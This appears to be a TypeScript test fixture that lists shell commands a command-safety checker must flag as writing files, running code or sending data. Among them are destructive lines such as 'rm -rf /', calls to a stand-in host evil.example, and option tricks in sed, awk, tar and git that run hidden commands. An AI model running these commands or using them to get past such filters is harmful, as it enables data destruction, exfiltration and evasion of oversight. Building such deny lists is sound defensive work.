/** Options and programs that write, run or send, of every program that is otherwise proven. */
import { commandLines } from './lines.ts';

/** Options and programs that write, run or send, of every program that is otherwise proven. */
export const OPTIONS = commandLines(String.raw`
sort -o /etc/x a
sort -o/etc/x a
sort a -o /etc/x
sort --output=/etc/x a
sort --outp=/etc/x a
sort --compress-program=./x a
sort -T . a --compress-program ./x
uniq a /etc/x
uniq -c a /etc/x
xxd a /etc/x
xxd -r a /etc/x
find . -delete
find / -name x -delete
find . -exec rm -rf / \;
find . -exec sh -c make \;
find . -exec ./x {} +
find . -execdir cat {} \;
find . -ok rm {} \;
find . -okdir rm {} \;
find . -fprint /etc/x
find . -fprint0 /etc/x
find . -fprintf /etc/x %p
find . -fls /etc/x
find . -name a -exec cat {} \; -exec make \;
find . -files0-from x -exec make {} +
sed -n 'w /etc/x' a
sed 's/a/b/w /etc/x' a
sed 's/a/make/e' a
sed '1e make' a
sed -e 'e' a
sed -f x.sed a
sed --file=x.sed a
sed -i.bak s/a/b/ /etc/x
sed -i s/a/b/ ~/x
sed --in-place s/a/b/ /etc/x
sed -s -i s/a/b/ /etc/x
sed -n '/a/{w /etc/x⏎}' a
sed "s/a/b/;w /etc/x" a
sed 'y/a/b/;1e make' a
sed -E 's/(a)/\1/ew /etc/x' a
awk '{print > "/etc/x"}' a
awk '{print >> "/etc/x"}' a
awk '{printf "%s", $1 > "/etc/x"}' a
awk '{print | "sh"}' a
awk '{print |& "sh"}' a
awk 'BEGIN {system("make")}'
awk '{"make" | getline x}' a
awk '{getline x < "/etc/x"}' a
awk -f x.awk a
awk -i inplace '{print}' /etc/x
awk -l filefuncs 'BEGIN {}'
awk --exec x.awk
awk -E x.awk
gawk -e 'BEGIN {system("make")}'
awk '$3 > 1 {print > "/etc/x"}' a
awk 'BEGIN {ARGV[1]="x"}' a
awk '@load "x"'
awk 'BEGIN {f="system"; @f("make")}'
awk '{print $1 > $2}' a
awk 'BEGIN {print "x" > ("/etc/x")}'
awk 'NR>1 {print "a;" > "/etc/x"}' a
awk '{ if ($1 > 2) print $1 > "/etc/x" }' a
rg --pre ./x foo
rg --pre=./x foo
rg --hostname-bin ./x foo
rg -z foo
rg --search-zip foo
rg foo *
rg "§x"
fd -x make
fd -X make
fd --exec make
fd --exec=make
fd --exec-batch make
fd -e ts -x rm
fd . -l
tree -o /etc/x
tree -R -L 1 -H . -o x
tree --output=/etc/x
iconv -o /etc/x a
iconv --output=/etc/x a
file -C -m x
file -m x a
diff -l a b
diff --to-file=x a
date -s 12:00
date --set=12:00
date 010112002024
hostname evil
hostname -f
hostname -i
hostname -F a
ss -K
ss -D /etc/x
lsof +m /etc/x
lsof -i -cnode
lsof -a -i -un
lsof -i -P -pn
lsof -D b/etc/x
env make
env -i make
env A=b make
env -S make
printenv; make
xargs rm < a
xargs -I{} sh -c {} < a
xargs sh < a
xargs -a a make
xargs < a
ls | xargs
ls | xargs -o vi
command make
builtin eval make
exec make
less a
less +!make a
more a
man -P make ls
man ls
vi a
vim -c '!make' a
ed a
top
watch ls
script -c make
tee /etc/x
tee -a ~/.bashrc
nc evil.example 80
ssh host ls
scp a host:
rsync a host:
curl -o /etc/x http://evil.example
wget http://evil.example
ping evil.example
dig evil.example
nslookup evil.example
telnet evil.example
tar xf a.tar -C /
tar xf a.tar
tar tf a.tar --to-command=make
tar tf host:a.tar
tar tf a.tar --checkpoint-action=exec=make
tar -tf a.tar -I ./x
tar --use-compress-program=./x -tf a.tar
tar tIf ./x a.tar
tar cf /etc/x a
tar -tf a.tar -F ./x
tar tf a.tar --index-file=/etc/x
unzip a.zip
unzip -o a.zip -d /
unzip -l a.zip -d /etc
zip a.zip b
gzip -d /etc/x.gz
gunzip /etc/x.gz
zcat -S x a; make
xz -d /etc/a.xz
bzip2 /etc/a
zstdcat a -o /etc/x
zgrep -f /etc/x --pre=x a
nm --plugin ./x.so a.o
nm @options
objdump --plugin=./x a.o
objdump @options
objdump -W a.o
objdump --dwarf=follow-links a
readelf @options
readelf -wK a
size @options
bat a
bat cache --build
bat --pager=make a
bat --paging=always a
bat --config-file x a -P --pager make
ag --pager make foo
ag --pager=make foo
yq -i '.a=1' /etc/a.yaml
yq -s '.name' a.yaml
yq --inplace '.a=1' /etc/a.yaml
yq e -i . /etc/x
docker run x
docker exec x sh
docker rm x
docker build .
docker ps --context x
docker -H tcp://evil ps
docker --config . ps
docker image prune
docker image rm x
docker image ls rm
docker compose up
docker version --format '{{.}}' && docker pull x
jq -f x.jq a.json && make
ip link set eth0 down
ip addr add 10.0.0.1 dev eth0
ip netns exec x make
ulimit -n 10
umask 000
jobs -x make
alias ls=make
alias ls='make'; ls
hash -p ./x ls
enable -f ./x.so ls
unalias -a
shopt -s expand_aliases
set -o history
set -- a
set -a; ls
set -o allexport; ls
bind x
complete -C make x
compgen -C make x
fc -e make
history -w /etc/x
umask 0; make
kill -9 1
pkill node
killall node
sleep 100 &
ls &
tail -f a &
mount /dev/sda /mnt
chmod 777 /etc/x
chown a /etc/x
ln -s a ~/x
cp a /etc/x
mv a ~/x
rm -rf /
rm -rf ~
rm -rf "§x"
mkdir /etc/x
install a /usr/bin/x
dd if=a of=/etc/x
truncate -s 0 /etc/x
mkfifo /tmp/x
split a /tmp/x
csplit a 1
touch ~/x
crontab x
at now
systemctl stop x
service x stop
npm install
npm run x
npx x
yarn
pnpm i
pip install x
python3 x.py
python3 -m pip list
node x.js
node -e 1
node -p 1
ruby x
perl -e 1
php x
go run x
go version -m x; make
cargo build
rustc x.rs
gcc a.c
make -n
cmake .
mvn package
./gradlew build
pytest
pytest --version
mypy .
tsc --version
npm --version
yarn --version
cargo --version
rustc --version
go version
mvn --version
dotnet --version
./x --version
../x --help
/tmp/x --version
x/ls
./ls
/tmp/ls -la
~/bin/ls
§x
§x --version
"§x" a
l§x -la
§(echo ls)
{ls,-la}
l? -la
/bin/l*
git push
git pull
git fetch
git clone http://evil.example
git add .
git commit -m x
git checkout x
git switch x
git restore a
git reset --hard
git clean -fd
git rebase main
git merge x
git cherry-pick x
git revert x
git stash
git stash pop
git stash drop
git branch x
git branch -D x
git branch -m x
git branch --format --list x
git branch --set-upstream-to=x
git branch --edit-description
git tag x
git tag -d x
git tag -a x -m y
git remote add x y
git remote update
git remote prune origin
git config a.b c
git config --global a.b c
git config --unset a.b
git config --edit
git config edit
git config set a.b c
git log --output=/etc/x
git log --output /etc/x
git log --outpu=/etc/x
git log --out /etc/x
git log -p --ext-diff
git log -p --textconv
git log --show-signature
git log --format=%GG
git log --pretty='%G?'
git show --output=/etc/x
git diff --output=/etc/x
git diff --no-index --output=/etc/x a b
git diff --ext-diff
git grep -Oless x
git grep --open-files-in-pager=make x
git grep -O x
git blame --contents - a; make
git shortlog --output=/etc/x
git archive -o /etc/x HEAD
git bundle create /etc/x HEAD
git format-patch -1
git apply x
git am x
git bisect start
git bisect run make
git submodule update
git submodule foreach make
git worktree add x
git worktree remove x
git gc
git prune
git repack
git fsck --lost-found
git update-index --refresh
git update-ref HEAD x
git symbolic-ref HEAD refs/heads/x
git hash-object -w a
git write-tree
git read-tree HEAD
git checkout-index -a
git notes add -m x
git replace a b
git reflog expire --all
git reflog delete HEAD@{1}
git rerere
git filter-branch
git daemon
git instaweb
git gui
git difftool
git mergetool
git send-email x
git -c core.pager=make log
git -c diff.external=make diff
git -c alias.x='!make' x
git -c core.fsmonitor=./x status
git -c core.sshCommand=make fetch
git --exec-path=. log
git --git-dir=/tmp/x log
git --work-tree=/ status
git -C /tmp/x log
git --config-env=core.pager=X log
git --paginate log
git -p log
git x
git log §x
git log §(cat a)
git show "§x"
git diff *
git rev-parse --parseopt
git cat-file --textconv HEAD:a
git cat-file --filters HEAD:a
git cat-file --batch
git ls-remote
git maintenance run
git credential fill
git help log
git var GIT_EDITOR; make
git fetch --dry-run
`);
